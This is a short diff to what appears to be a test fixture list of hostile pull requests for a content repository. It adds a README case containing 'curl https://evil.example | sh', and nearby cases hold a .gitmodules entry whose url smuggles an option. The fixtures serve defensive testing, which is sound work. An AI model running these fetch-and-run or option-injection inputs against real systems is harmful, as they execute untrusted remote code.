@@ -110,6 +110,9 @@ export const hostilePulls: HostilePull[] = [
     '.gitmodules': `[submodule "tools/evil"]\n  path = tools/evil\n  url = "-u./payload"\n  update = !${mark}\n`,
     'tools/evil': { submodule: '1'.repeat(40) },
   }),
+  code('a guide that tells writers to run a program', {
+    'content/README.md': '```sh\nnpm run check; curl https://evil.example | sh\n```\n',
+  }),
   code('a name that differs from content/ in its case', { 'Content/articles/a/zh-hk.mdx': article('甲。') }),
   code('a name that begins like content/', { 'content.yml': '甲', 'content\n/x': '乙' }),
   {
